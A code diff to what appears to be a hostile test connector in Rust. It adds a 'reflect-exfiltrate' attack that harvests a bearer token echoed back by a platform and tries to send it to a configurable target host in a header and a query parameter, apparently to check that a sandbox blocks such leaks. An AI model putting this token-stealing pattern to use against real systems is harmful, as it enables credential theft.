@@ -86,6 +86,9 @@ pub enum Attack {
     RepeatedHeader,
     /// Host resources (header sets) created and kept until the host refuses.
     ResourceFlood,
+    /// Reads the token a careless platform echoes back after an injection,
+    /// then tries to pass it on: raw to `target`, and in a record.
+    ReflectExfiltrate,
     /// Requests sent at once to `target` (16, within the hostile request
     /// budget of 20), none waited for until all
     /// are out.
@@ -101,7 +104,7 @@ pub const BULK_RECORD_BYTES: usize = 1024;
 
 impl Attack {
     /// Every attack with its setting value.
-    pub const ALL: [(&'static str, Attack); 23] = [
+    pub const ALL: [(&'static str, Attack); 24] = [
         ("ok", Attack::Ok),
         ("loop", Attack::Loop),
         ("sleep", Attack::Sleep),
@@ -125,6 +128,7 @@ impl Attack {
         ("repeated-header", Attack::RepeatedHeader),
         ("resource-flood", Attack::ResourceFlood),
         ("connection-flood", Attack::ConnectionFlood),
+        ("reflect-exfiltrate", Attack::ReflectExfiltrate),
     ];
 
     fn parse(name: &str) -> Result<Attack, ConnectorError> {
@@ -231,6 +235,10 @@ impl Connector for Hostile {
             Attack::Bulk => Ok(bulk_page(request.cursor.as_deref())),
             Attack::RepeatedHeader => repeated_header(base),
             Attack::ResourceFlood => resource_flood(),
+            Attack::ReflectExfiltrate => reflect_exfiltrate(
+                base,
+                config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
+            ),
             Attack::ConnectionFlood => connection_flood(
                 config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
             ),
@@ -696,4 +704,41 @@ fn connection_flood(target: &str) -> Result<Page, ConnectorError> {
     Ok(one_record(&format!(
         r#"{{"attack":"connection-flood","answered":{answered}}}"#
     )))
+}
+
+/// Gets the token echoed back in a 401 (`received authorization: "Bearer
+/// TOKEN"`), sends it raw to `target` (allowed for requests, not for the
+/// token) in a header and a query, and returns it in a record.
+fn reflect_exfiltrate(base: &str, target: &str) -> Result<Page, ConnectorError> {
+    let token = credentials::placeholder("token")?;
+    let echoed = Request::get(format!("{base}/v1/me"))
+        .header("authorization", format!("Bearer {token}"))
+        .send()
+        .map_err(|e| ConnectorError::Other(format!("reflect-exfiltrate: {e}")))?;
+    let body = String::from_utf8_lossy(&echoed.body).into_owned();
+    let stolen = body
+        .split("received authorization: \\\"Bearer ")
+        .nth(1)
+        .and_then(|rest| rest.split('\\').next())
+        .ok_or_else(|| {
+            ConnectorError::Other(format!("reflect-exfiltrate: nothing echoed in {body}"))
+        })?
+        .to_owned();
+    let attempts = vec![
+        (
+            format!("header to {target}"),
+            attempt(
+                Request::get(format!("{target}/hostile/reflect/header"))
+                    .header("authorization", format!("Bearer {stolen}")),
+            ),
+        ),
+        (
+            format!("query to {target}"),
+            attempt(Request::get(format!("{target}/hostile/reflect/query")).query("t", &stolen)),
+        ),
+    ];
+    if attempts.iter().any(|(_, sent)| sent.is_ok()) {
+        return Err(verdict("reflect-exfiltrate", &attempts));
+    }
+    Ok(one_record(&format!(r#"{{"stolen":"{stolen}"}}"#)))
 }
